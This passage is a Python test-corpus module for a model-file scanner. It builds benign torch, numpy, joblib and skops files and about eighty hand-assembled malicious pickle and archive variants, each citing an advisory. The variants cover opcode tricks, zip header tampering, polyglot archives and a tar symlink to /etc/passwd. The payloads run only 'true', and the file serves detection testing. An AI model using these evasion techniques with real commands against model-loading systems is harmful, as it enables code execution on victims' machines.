"""The scanner's test corpus, built in memory: published pickle/archive bypass techniques (each
citing the advisory or issue it comes from) and benign model files written by the real libraries.

Nothing here is ever loaded, unpickled or executed: malicious payloads are written opcode by opcode
and call harmless commands ('true') at most. Benign files are produced by torch.save, numpy.save,
joblib.dump and skops.io.dump of freshly built objects.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["BENIGN", "MALICIOUS", "Case", "torch_zip", "zip_bomb"]


@dataclass(frozen=True)
class Case:
    name: str
    source: str                     # advisory / issue the technique comes from
    filename: str                   # the name it is written under (never used for detection)
    build: Callable[[], bytes]


# -- opcode helpers ------------------------------------------------------------------------------

def u(s: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def g0(module: str, name: str) -> bytes:
    """Protocol-0 GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL fed by two SHORT_BINUNICODE strings."""
    return u(module) + u(name) + b"\x93"


def s0(text: str) -> bytes:
    """Protocol-0 STRING."""
    return b"S'" + text.encode() + b"'\n"


def p(proto: int, body: bytes) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def reduce4(module: str, name: str, *args: str) -> bytes:
    """Protocol 4: module.name(*args) through STACK_GLOBAL."""
    return p(4, call(sg(module, name), *(u(a) for a in args)))


def reduce0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0: module.name(*args) through GLOBAL."""
    return call(g0(module, name), *(s0(a) for a in args)) + b"."


def zip_of(members: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, *, prefix: str = "archive") -> bytes:
    """A zip laid out like torch.save's, with the given data.pkl."""
    return zip_of({f"{prefix}/data.pkl": data_pkl, f"{prefix}/byteorder": b"little",
                   f"{prefix}/version": b"3\n"})


def _patch_zip(data: bytes, find: bytes, replace: bytes, count: int = 1) -> bytes:
    assert data.count(find) >= count
    return data.replace(find, replace, count)


# -- malicious techniques ------------------------------------------------------------------------

OS_SYSTEM4 = reduce4("os", "system", "true")


def _memo_stack_global() -> bytes:
    # store 'os'/'system' in the memo, push padding literals, replay them with BINGET before STACK_GLOBAL
    body = u("os") + b"q\x00" + b"0" + u("system") + b"q\x01" + b"0" + u("pad") + b"0"
    body += b"h\x00h\x01\x93" + b"(" + u("true") + b"tR"
    return p(4, body)


def _proto0_strings_stack_global() -> bytes:
    return p(4, s0("os") + s0("system") + b"\x93" + b"(" + s0("true") + b"tR")


def _unicode_nl_stack_global() -> bytes:
    return p(4, b"Vos\nVsystem\n\x93(Vtrue\ntR")


def _binunicode8_stack_global() -> bytes:
    def u8(s: str) -> bytes:
        return b"\x8d" + struct.pack("<Q", len(s)) + s.encode()
    return p(4, u8("subprocess") + u8("getoutput") + b"\x93(" + u8("true") + b"tR")


def _binstring_stack_global() -> bytes:
    def bs(s: str) -> bytes:
        return b"U" + bytes([len(s)]) + s.encode()
    return p(2, bs("os") + bs("system") + b"\x93(" + bs("true") + b"tR")


def _inst() -> bytes:
    return b"(S'true'\nios\nsystem\n."


def _obj_pty() -> bytes:
    return b"(cpty\nspawn\nS\"true\"\no."


def _newobj() -> bytes:
    return p(2, g0("subprocess", "Popen") + b"(" + s0("true") + b"t" + b"\x81")


def _newobj_ex() -> bytes:
    return p(4, sg("subprocess", "Popen") + b"(" + u("true") + b"t}" + b"\x92")


def _ext_code() -> bytes:
    return p(2, b"\x82\xf0(" + s0("true") + b"tR")


def _getattr_chain() -> bytes:
    imp = call(g0("builtins", "__import__"), s0("os"))
    getter = call(g0("builtins", "getattr"), imp, s0("system"))
    return getter + b"(" + s0("true") + b"tR."


def _py2_builtin_eval() -> bytes:
    return p(2, call(g0("__builtin__", "eval"), s0("1")))


def _attrgetter() -> bytes:
    getter = call(sg("operator", "attrgetter"), u("system"))
    mod = call(sg("importlib", "import_module"), u("os"))
    return p(4, getter + b"(" + mod + b"tR" + b"(" + u("true") + b"tR")


def _import_module_join() -> bytes:
    # modelscan#331: importlib.import_module + builtins.getattr(str, 'join') building 'os'
    body = call(sg("importlib", "import_module"), u("builtins")) + b"\x94"
    body += sg("builtins", "getattr") + b"\x94"
    body += b"h\x01h\x00" + u("str") + b"\x86R" + u("join") + b"\x86R"
    body += u("") + b"](" + u("o") + u("s") + b"e\x86R"
    return p(4, body)


def _dotted_name() -> bytes:
    # protocol 4 resolves dotted names by getattr walks: an allowed module, a dangerous attribute path
    return p(4, call(sg("collections", "OrderedDict.__init__.__globals__"), u("x")))


def _dotted_torch() -> bytes:
    return p(4, call(sg("torch", "serialization.os.system"), u("true")))


def _build_setattr_numpy() -> bytes:
    # modelscan#85: BUILD slotstate sets numpy.prod.a='os', numpy.prod.b='system', then GLOBAL reads them
    body = g0("numpy", "prod") + b"N(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b0"
    body += g0("numpy", "prod.a") + b"p0\n" + g0("numpy", "prod.b") + b"p1\n00g0\ng1\n\x93(Vtrue\ntR"
    return p(5, body)


def _numpy_builtins() -> bytes:
    # modelscan#330: numpy.size BUILD with numpy.__builtins__ as state, then eval
    body = sg("numpy", "size") + b"\x94\x94" + sg("numpy", "__builtins__") + b"\x94\x94"
    body += b"h\x01}}" + u("shape") + b"h\x03s\x86b" + b"h\x01h\x01" + u("eval") + b"\x86R"
    body += u("1") + b"\x85R"
    return p(4, body)


def _non_string_stack_global() -> bytes:
    return p(4, b"K\x01K\x02\x93(" + u("true") + b"tR")


def _junk_after_stop() -> bytes:
    benign = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
    return benign + OS_SYSTEM4


def _error_after_reduce() -> bytes:
    # the call runs; the stream then breaks (a stack underflow), which stops parser-based scanners
    return b"\x80\x04" + call(sg("os", "system"), u("true")) + b"0000."


def _unknown_opcode_after_call() -> bytes:
    return b"\x80\x04" + call(sg("os", "system"), u("true")) + b"\xff\xfe."


def _garbage_then_call() -> bytes:
    # protocol-0 pickle behind a run of valid-but-odd opcodes (POP_MARK / MARK games)
    return b"((1" + reduce0("os", "system", "true")


def _build_interpreters() -> bytes:
    # GHSA-6ggj-6f2q-f7mx: _interpreters.create routed through BUILD/__setstate__
    return p(4, b"}" + call(sg("_interpreters", "create")) + b"b")


def _torch_zip_payload() -> bytes:
    return torch_zip(OS_SYSTEM4)


def _zip_member_txt() -> bytes:
    return zip_of({"archive/data.pkl": pickle.dumps({"ok": 1}), "archive/notes.txt": OS_SYSTEM4})


def _zip_member_noext() -> bytes:
    return zip_of({"model/config": b"{}", "model/weights": reduce0("os", "system", "true")})


def _zip_name_mismatch() -> bytes:
    # CVE-2025-1944: the local header names another file than the central directory
    data = zip_of({"archive/data.pkl": OS_SYSTEM4, "archive/version": b"3\n"})
    return _patch_zip(data, b"archive/data.pkl", b"archive/data.pkx", 1)  # the first hit is the local header


def _zip_bad_crc() -> bytes:
    # CVE-2025-10156: a CRC mismatch makes zipfile raise, so scanners skip the member; torch ignores CRCs
    data = bytearray(torch_zip(OS_SYSTEM4))
    at = data.find(b"PK\x03\x04")
    data[at + 14:at + 18] = b"\x00\x00\x00\x00"
    cd = data.find(b"PK\x01\x02")
    data[cd + 16:cd + 20] = b"\x00\x00\x00\x00"
    return bytes(data)


def _zip_encrypted_flag() -> bytes:
    # CVE-2025-1945: flag bits set in the headers make scanners give up; the content is plain
    data = bytearray(torch_zip(OS_SYSTEM4))
    at = data.find(b"PK\x03\x04")
    data[at + 6] |= 0x01
    cd = data.find(b"PK\x01\x02")
    data[cd + 8] |= 0x01
    return bytes(data)


def _zip_prefixed() -> bytes:
    # a polyglot: 7z-like magic and garbage before a zip (readers find the end record)
    return b"7z\xbc\xaf\x27\x1c" + b"\x00" * 200 + torch_zip(OS_SYSTEM4)


def _zip_nested() -> bytes:
    return zip_of({"outer/model.pt": torch_zip(OS_SYSTEM4)})


def _zip_duplicate() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"ok": 1}))
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)
            zf.writestr("archive/data.pkl", OS_SYSTEM4)
    return buf.getvalue()


def _zip_deflated_payload() -> bytes:
    return zip_of({"archive/data.pkl": OS_SYSTEM4 * 1}, method=zipfile.ZIP_DEFLATED)


def _joblib_xz() -> bytes:
    return lzma.compress(reduce4("subprocess", "check_output", "true"), format=lzma.FORMAT_XZ)


def _joblib_gzip() -> bytes:
    return gzip.compress(reduce4("os", "system", "true"))


def _joblib_zlib() -> bytes:
    return zlib.compress(reduce0("os", "popen", "true"))


def _joblib_bz2() -> bytes:
    return bz2.compress(reduce4("os", "system", "true"))


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def _npy_object_payload() -> bytes:
    return _npy_header("|O", (1,)) + reduce4("os", "system", "true")


def _torch_legacy_magic() -> bytes:
    out = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    out += p(2, call(g0("os", "system"), s0("true")))
    out += pickle.dumps([], protocol=2)
    return out


def _torch_legacy_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, body in (("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                           ("pickle", reduce0("os", "system", "true")),
                           ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                           ("tensors", pickle.dumps(0, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def _tar_symlink() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:") as tar:
        info = tarfile.TarInfo("pickle")
        info.type = tarfile.SYMTYPE
        info.linkname = "../../etc/passwd"
        tar.addfile(info)
    return buf.getvalue()


def _joblib_object_array() -> bytes:
    # joblib writes an object array's items as a nested pickle right after the wrapper
    wrapper = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = b"}(" + u("subclass") + sg("numpy", "ndarray") + u("shape") + b"K\x01\x85" + u("order") + u("C")
    state += u("dtype") + call(sg("numpy", "dtype"), u("O8"), b"\x89", b"\x88") + u("allow_mmap") + b"\x89u"
    return b"\x80\x04" + wrapper + state + b"b" + reduce4("os", "system", "true") + b"."


def _zip_lzma_member() -> bytes:
    return zip_of({"archive/data.pkl": OS_SYSTEM4, "archive/version": b"3\n"}, method=zipfile.ZIP_LZMA)


def _zip_bzip2_member() -> bytes:
    return zip_of({"archive/data.pkl": reduce4("subprocess", "run", "true")}, method=zipfile.ZIP_BZIP2)


def _skops_untrusted_type() -> bytes:
    # a skops file whose schema names subprocess.Popen: skops.io.load(trusted=get_untrusted_types())
    # would construct it
    schema = ('{"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": '
              '{"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}, '
              '"protocol": 2, "_skops_version": "0.10"}')
    return zip_of({"schema.json": schema.encode()}, method=zipfile.ZIP_DEFLATED)


def _torchscript() -> bytes:
    import warnings

    import torch
    buf = io.BytesIO()
    with warnings.catch_warnings():  # torch.jit.script is deprecated; TorchScript files still exist
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 3)), buf)
    return buf.getvalue()


def _joblib_array_hides_opcodes() -> bytes:
    # joblib.load skips an array's bytes after its wrapper; pickle.load runs them as opcodes
    payload = sg("os", "system") + b"(" + u("true") + b"tR0"
    if len(payload) % 2:
        payload += b"(N1"  # MARK NONE POP_MARK: three bytes that leave the stack as it was
    payload += b"N0" * ((-len(payload)) % 8 // 2)  # NONE POP pairs up to a whole float64
    count = len(payload) // 8
    wrapper = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = b"}(" + u("subclass") + sg("numpy", "ndarray") + u("shape") + b"K" + bytes([count]) + b"\x85"
    state += u("order") + u("C") + u("dtype") + call(sg("numpy", "dtype"), u("f8"), b"\x89", b"\x88")
    state += u("allow_mmap") + b"\x88u"
    return b"\x80\x04" + wrapper + state + b"b" + payload + b"."


def _gen(module: str, name: str, proto: int = 4) -> Callable[[], bytes]:
    if proto == 0:
        return lambda: reduce0(module, name, "true")
    return lambda: reduce4(module, name, "true")


MALICIOUS: tuple[Case, ...] = (
    # direct calls of execution primitives, by opcode family
    Case("proto0-global-os-system", "fickling README; picklescan base case", "model.pkl", _gen("os",
         "system", 0)),
    Case("proto4-stack-global", "picklescan#22 (STACK_GLOBAL)", "model.pkl", lambda: OS_SYSTEM4),
    Case("stack-global-from-memo", "picklescan#22 / imaginaryctf Safe Pickle; agent-bom#3326", "m.pkl",
         _memo_stack_global),
    Case("stack-global-proto0-strings", "modelscan PR#313 (STACK_GLOBAL fed by STRING)", "m.pkl",
         _proto0_strings_stack_global),
    Case("stack-global-unicode-nl", "modelscan PR#313", "m.pkl", _unicode_nl_stack_global),
    Case("stack-global-binunicode8", "modelaudit PR#330 (STACK_GLOBAL operand recovery)", "m.pkl",
         _binunicode8_stack_global),
    Case("stack-global-binstring", "modelscan PR#313 (BINSTRING/SHORT_BINSTRING)", "m.pkl",
         _binstring_stack_global),
    Case("stack-global-non-string", "modelscan PR#313 (non-string operands)", "m.pkl",
         _non_string_stack_global),
    Case("inst-opcode", "fickling#108 (INST/OBJ)", "m.pkl", _inst),
    Case("obj-pty-spawn", "fickling#108 (pty.spawn via OBJ)", "m.pkl", _obj_pty),
    Case("newobj-popen", "fickling UNSAFE_IMPORTS (subprocess); NEWOBJ", "m.pkl", _newobj),
    Case("newobj-ex-popen", "NEWOBJ_EX (PEP 3154)", "m.pkl", _newobj_ex),
    Case("ext-code-unregistered", "copyreg extension codes (PEP 307)", "m.pkl", _ext_code),
    Case("builtins-getattr-import-chain", "picklescan#66 (getattr chains)", "m.pkl", _getattr_chain),
    Case("builtins-eval", "fickling GHSA-h4rm-mm56-xf63 (builtins imports)", "m.pkl", _gen("builtins",
         "eval")),
    Case("builtins-exec", "fickling GHSA-h4rm-mm56-xf63", "m.pkl", _gen("builtins", "exec")),
    Case("py2-builtin-eval", "fix_imports mapping (__builtin__ -> builtins)", "m.pkl", _py2_builtin_eval),
    Case("operator-attrgetter", "picklescan GHSA-m273-6v24-x4m4", "m.pkl", _attrgetter),
    Case("operator-methodcaller", "picklescan GHSA-955r-x9j8-7rhh", "m.pkl", _gen("_operator",
         "methodcaller")),
    Case("functools-partial", "fickling PR#210 (functools.partial wrapper)", "m.pkl", _gen("functools",
         "partial")),
    Case("pydoc-locate", "picklescan GHSA-vvpj-8cmc-gx39 class (name resolvers)", "m.pkl", _gen("pydoc",
         "locate")),
    Case("pkgutil-resolve-name", "picklescan GHSA-vvpj-8cmc-gx39", "m.pkl", _gen("pkgutil", "resolve_name")),
    Case("importlib-import-module-join", "modelscan#331", "m.pkl", _import_module_join),
    Case("runpy-run-code", "fickling UNSAFE_IMPORTS (runpy)", "m.pkl", _gen("runpy", "_run_code")),
    Case("code-interactive-interpreter", "modelscan PR#313 (code.InteractiveInterpreter.runcode)", "m.pkl",
         _gen("code", "InteractiveInterpreter.runcode")),
    Case("torch-load-nested", "picklescan advisories (nested torch.load)", "m.pkl", _gen("torch", "load")),
    Case("numpy-load-nested", "fickling#108 (numpy.load allow_pickle)", "m.pkl", _gen("numpy", "load")),
    Case("pickle-loads-nested", "modelscan#267; picklescan GHSA-84r2-jw7c-4r5q", "m.pkl", _gen("pickle",
         "loads")),
    Case("pip-main", "CVE-2025-1716", "m.pkl", _gen("pip", "main")),
    Case("asyncio-subprocess", "CVE-2025-10157 (asyncio.unix_events._UnixSubprocessTransport)", "m.pkl",
         _gen("asyncio.unix_events", "_UnixSubprocessTransport")),
    Case("posixsubprocess-fork-exec", "picklescan advisories (_posixsubprocess.fork_exec)", "m.pkl",
         _gen("_posixsubprocess", "fork_exec")),
    Case("bdb-run", "picklescan GHSA-4675-36f9-wf6r", "m.pkl", _gen("bdb", "Bdb.run")),
    Case("cprofile-run", "picklescan GHSA-46h3-79wf-xr6c", "m.pkl", _gen("cProfile", "run")),
    Case("timeit-timeit", "fickling PR#210 (timeit)", "m.pkl", _gen("timeit", "timeit")),
    Case("ctypes-cdll", "fickling UNSAFE_IMPORTS (ctypes)", "m.pkl", _gen("ctypes", "CDLL")),
    Case("webbrowser-open", "modelscan unsafe globals (webbrowser)", "m.pkl", _gen("webbrowser", "open")),
    Case("shutil-rmtree", "fickling PR#210 (shutil)", "m.pkl", _gen("shutil", "rmtree")),
    Case("distutils-write-file", "CVE-2025-10155/10156 per fickling PR#210", "m.pkl",
         _gen("distutils.file_util", "write_file")),
    Case("io-fileio", "fickling PR#210 (_io.FileIO)", "m.pkl", _gen("_io", "FileIO")),
    Case("torch-collect-env-run", "modelscan#338", "m.pkl", _gen("torch.utils.collect_env", "run")),
    Case("multiprocessing-spawnv", "modelscan#338", "m.pkl", _gen("multiprocessing.util", "spawnv_passfds")),
    Case("pandas-read-csv", "modelscan#338 (exfiltration)", "m.pkl", _gen("pandas.io.parsers.readers",
         "read_csv")),
    Case("numpy-f2py", "fickling PR#210 (numpy.f2py.crackfortran.getlincoef)", "m.pkl",
         _gen("numpy.f2py.crackfortran", "getlincoef")),
    Case("uuid-command-stdout", "CVE-2026-56315", "m.pkl", _gen("uuid", "_get_command_stdout")),
    Case("logging-filehandler", "CVE-2026-56304", "m.pkl", _gen("logging", "FileHandler")),
    Case("interpreters-build", "fickling GHSA-6ggj-6f2q-f7mx", "m.pkl", _build_interpreters),
    Case("torch-dynamo-guards", "modelscan PR#313 (torch._dynamo.guards)", "m.pkl",
         _gen("torch._dynamo.guards", "GuardBuilder.get")),
    Case("idlelib", "picklescan GHSA-r8g5-cgf2-4m4m", "m.pkl", _gen("idlelib.pyshell",
         "ModifiedInterpreter")),
    Case("ensurepip-run-pip", "picklescan GHSA-vqmv-47xg-9wpr", "m.pkl", _gen("ensurepip", "_run_pip")),
    Case("http-client", "picklescan GHSA-hgrh-qx5j-jfwx", "m.pkl", _gen("http.client", "HTTPConnection")),
    Case("dotted-name-globals", "protocol 4 dotted names (find_class getattr walk)", "m.pkl", _dotted_name),
    Case("dotted-name-torch-os", "protocol 4 dotted names through an allowed package", "m.pkl",
         _dotted_torch),
    Case("build-setattr-numpy", "modelscan#85 (BUILD on an imported function)", "m.pkl",
         _build_setattr_numpy),
    Case("numpy-dunder-builtins", "modelscan#330", "m.pkl", _numpy_builtins),
    # stream-level tricks
    Case("junk-after-stop-second-pickle", "picklescan GHSA-9gvj-pp9x-gcfr (parsing logic flaw)", "m.pkl",
         _junk_after_stop),
    Case("error-right-after-reduce", "modelscan PR#313 (broken streams)", "m.pkl", _error_after_reduce),
    Case("unknown-opcode-after-call", "modelscan PR#313 (deferred errors)", "m.pkl",
         _unknown_opcode_after_call),
    Case("mark-games-proto0", "fickling#108 style proto-0 stream", "m.pkl", _garbage_then_call),
    Case("bin-raw-pickle", "CVE-2025-1889 (non-standard extension)", "pytorch_model.bin",
         _gen("subprocess", "call")),
    # archives
    Case("torch-zip-data-pkl", "picklescan base case (torch zip)", "model.pt", _torch_zip_payload),
    Case("zip-member-txt", "CVE-2025-10155 (member extension)", "model.pt", _zip_member_txt),
    Case("zip-member-no-extension", "CVE-2025-1889", "model.model", _zip_member_noext),
    Case("zip-name-mismatch", "CVE-2025-1944", "model.pt", _zip_name_mismatch),
    Case("zip-bad-crc", "CVE-2025-10156", "model.pt", _zip_bad_crc),
    Case("zip-encrypted-flag", "CVE-2025-1945", "model.pt", _zip_encrypted_flag),
    Case("zip-garbage-prefix", "7z/polyglot prefix (zipfile finds the end record)", "model.7z",
         _zip_prefixed),
    Case("zip-nested", "nested archives (issue 17)", "bundle.zip", _zip_nested),
    Case("zip-duplicate-name", "duplicate zip names (APPNOTE 4.4.17; reader differentials)", "model.pt",
         _zip_duplicate),
    Case("zip-deflated-payload", "picklescan base case (deflated member)", "model.pt", _zip_deflated_payload),
    Case("joblib-xz", "joblib compressed pickles (xz)", "model.joblib", _joblib_xz),
    Case("joblib-gzip", "joblib compressed pickles (gzip)", "model.joblib", _joblib_gzip),
    Case("joblib-zlib", "joblib compressed pickles (zlib)", "model.joblib", _joblib_zlib),
    Case("joblib-bz2", "joblib compressed pickles (bz2)", "model.joblib", _joblib_bz2),
    Case("joblib-object-array", "joblib NumpyArrayWrapper nested pickle", "model.joblib",
         _joblib_object_array),
    Case("npy-object-payload", "numpy.load(allow_pickle=True); fickling#108", "weights.npy",
         _npy_object_payload),
    Case("torch-legacy-magic", "torch legacy serialization (magic number stream)", "model.pth",
         _torch_legacy_magic),
    Case("torch-legacy-tar", "torch legacy tar format", "model.tar", _torch_legacy_tar),
    Case("tar-symlink-traversal", "tar link traversal (CVE-2007-4559 class)", "model.tar", _tar_symlink),
    Case("joblib-array-hides-opcodes", "joblib.load / pickle.load differential (NumpyArrayWrapper)",
         "model.pkl", _joblib_array_hides_opcodes),
    Case("zip-lzma-member", "zip methods scanners skip (LZMA, APPNOTE 5.8)", "model.pt", _zip_lzma_member),
    Case("zip-bzip2-member", "zip methods scanners skip (bzip2)", "model.pt", _zip_bzip2_member),
    Case("skops-untrusted-type", "skops get_untrusted_types / trusted= misuse", "model.skops",
         _skops_untrusted_type),
    Case("torchscript-archive", "modelshield issue #15 (TorchScript code runs in torch.jit.load)", "m.pt",
         _torchscript),
)


# -- benign files ----------------------------------------------------------------------------------

def _torch_bytes(obj: object, *, legacy: bool = False) -> bytes:
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    return buf.getvalue()


def _tiny_net() -> object:
    import torch
    gen = torch.Generator().manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.Flatten(),
                              torch.nn.Linear(8, 3))
    with torch.no_grad():
        for prm in net.parameters():
            prm.copy_(torch.randn(prm.shape, generator=gen))
    return net


def _state_dict() -> bytes:
    return _torch_bytes(_tiny_net().state_dict())  # type: ignore[attr-defined]


def _state_dict_legacy() -> bytes:
    return _torch_bytes(_tiny_net().state_dict(), legacy=True)  # type: ignore[attr-defined]


def _checkpoint() -> bytes:
    import torch
    net = _tiny_net()
    opt = torch.optim.Adam(net.parameters(), lr=1e-3)  # type: ignore[attr-defined]
    net(torch.ones(2, 1, 4, 4)).sum().backward()  # type: ignore[operator]
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
    return _torch_bytes({"model": net.state_dict(), "optimizer": opt.state_dict(),  # type: ignore[attr-defined]
                         "scheduler": sched.state_dict(), "epoch": 3, "dtype": torch.float16,
                         "shape": torch.Size([2, 3]), "device": torch.device("cpu"), "note": "ok"})


def _tensors_mixed() -> bytes:
    import torch
    return _torch_bytes({"half": torch.zeros(3, dtype=torch.float16), "long": torch.arange(4),
                         "bool": torch.ones(2, dtype=torch.bool), "view": torch.arange(10.0)[2:5],
                         "param": torch.nn.Parameter(torch.ones(2))})


def _torch_legacy_tar_benign() -> bytes:
    """torch's pre-1.0 tar layout, written by hand as torch.serialization.legacy_load reads it: one
    float storage of 4 elements, no views, no tensors, and a pickle naming the storage by id."""
    import torch
    storage_pickle = pickle.dumps(1, protocol=2) + pickle.dumps(("k0", "cpu", torch.FloatStorage), protocol=2)
    storage_pickle += struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4) + pickle.dumps([], protocol=2)

    class _Pickler(pickle.Pickler):
        def persistent_id(self, obj: object) -> object:
            return "k0" if obj == "@storage" else None

    buf = io.BytesIO()
    _Pickler(buf, protocol=2).dump(OrderedDict(weight="@storage"))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, body in (("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True},
                                                      protocol=2)),
                           ("pickle", buf.getvalue()), ("storages", storage_pickle),
                           ("tensors", pickle.dumps(0, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return out.getvalue()


def _npy_float() -> bytes:
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, np.linspace(0, 1, 50, dtype=np.float32).reshape(5, 10))
    return buf.getvalue()


def _npz() -> bytes:
    import numpy as np
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(6).reshape(2, 3), b=np.eye(3))
    return buf.getvalue()


def _npz_compressed() -> bytes:
    import numpy as np
    buf = io.BytesIO()
    np.savez_compressed(buf, w=np.zeros((20, 20)), labels=np.array(["a", "b"]))
    return buf.getvalue()


def _pipeline() -> object:
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 4))
    y = (x[:, 0] > 0).astype(int)
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)


def _forest() -> object:
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 4))
    return RandomForestClassifier(n_estimators=3, random_state=0).fit(x, (x[:, 1] > 0).astype(int))


def _sklearn_model(kind: str) -> object:
    import numpy as np
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = rng.integers(0, 3, 60)
    models = {"gb": GradientBoostingClassifier(n_estimators=3, random_state=0),
              "hgb": HistGradientBoostingClassifier(max_iter=3, random_state=0),
              "knn": KNeighborsClassifier(algorithm="kd_tree"),
              "mlp": MLPClassifier(hidden_layer_sizes=(4,), max_iter=300, random_state=0)}
    import warnings
    with warnings.catch_warnings():  # MLP stops before convergence on purpose (speed)
        warnings.simplefilter("ignore")
        return models[kind].fit(x, y)


def _joblib(obj: object, compress: object = 0) -> bytes:
    import joblib
    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


def _skops() -> bytes:
    import skops.io as sio
    return bytes(sio.dumps(_pipeline()))


def _skops_ufunc() -> bytes:
    import numpy as np
    import skops.io as sio
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    return bytes(sio.dumps(make_pipeline(FunctionTransformer(np.log1p)).fit(np.ones((3, 2)))))


def _safetensors() -> bytes:
    import torch
    from safetensors.torch import save
    return bytes(save({"w": torch.zeros(3, 4), "b": torch.arange(3, dtype=torch.int64)}))


def _onnx() -> bytes:
    import numpy as np
    from skl2onnx import to_onnx  # type: ignore[import-untyped]  # no stubs
    model = _pipeline()
    return bytes(to_onnx(model, np.zeros((1, 4), dtype=np.float32), target_opset=15).SerializeToString())


def _plain(proto: int) -> Callable[[], bytes]:
    data = {"name": "model", "layers": [1, 2, 3], "shape": (2, 3), "rate": 0.5, "tags": {"a", "b"},
            "blob": b"\x00\x01", "od": OrderedDict(a=1), "none": None, "big": 2 ** 70, "c": complex(1, 2)}
    return lambda: pickle.dumps(data, protocol=proto)


def _numpy_pickle() -> bytes:
    import numpy as np
    return pickle.dumps({"a": np.arange(5.0), "s": np.float32(1.5), "o": np.array([1, "x"], dtype=object)},
                        protocol=4)


BENIGN: tuple[Case, ...] = (
    Case("torch-state-dict-zip", "torch.save", "model.pt", _state_dict),
    Case("torch-state-dict-legacy", "torch.save(_use_new_zipfile_serialization=False)", "model.pth",
         _state_dict_legacy),
    Case("torch-legacy-tar-layout", "torch legacy tar layout (legacy_load)", "old.tar",
         _torch_legacy_tar_benign),
    Case("torch-checkpoint-optimizer", "torch.save of a training checkpoint", "ckpt.pt", _checkpoint),
    Case("torch-mixed-tensors", "torch.save of views, dtypes and a Parameter", "t.bin", _tensors_mixed),
    Case("numpy-save-float", "numpy.save", "w.npy", _npy_float),
    Case("numpy-savez", "numpy.savez", "w.npz", _npz),
    Case("numpy-savez-compressed", "numpy.savez_compressed", "w.npz", _npz_compressed),
    Case("joblib-pipeline", "joblib.dump", "p.joblib", lambda: _joblib(_pipeline())),
    Case("joblib-forest-xz", "joblib.dump(compress='xz')", "rf.joblib", lambda: _joblib(_forest(),
         ("xz", 3))),
    Case("joblib-forest-zlib", "joblib.dump(compress=3)", "rf.joblib", lambda: _joblib(_forest(), 3)),
    Case("skops-pipeline", "skops.io.dumps", "p.skops", _skops),
    Case("sklearn-gradient-boosting-pickle", "pickle.dumps (Cython loss, MT19937)", "gb.pkl",
         lambda: pickle.dumps(_sklearn_model("gb"))),
    Case("sklearn-hist-gradient-boosting-joblib", "joblib.dump (PCG64, SeedSequence)", "hgb.joblib",
         lambda: _joblib(_sklearn_model("hgb"))),
    Case("sklearn-kneighbors-joblib", "joblib.dump (KDTree, DistanceMetric newObj)", "knn.joblib",
         lambda: _joblib(_sklearn_model("knn"))),
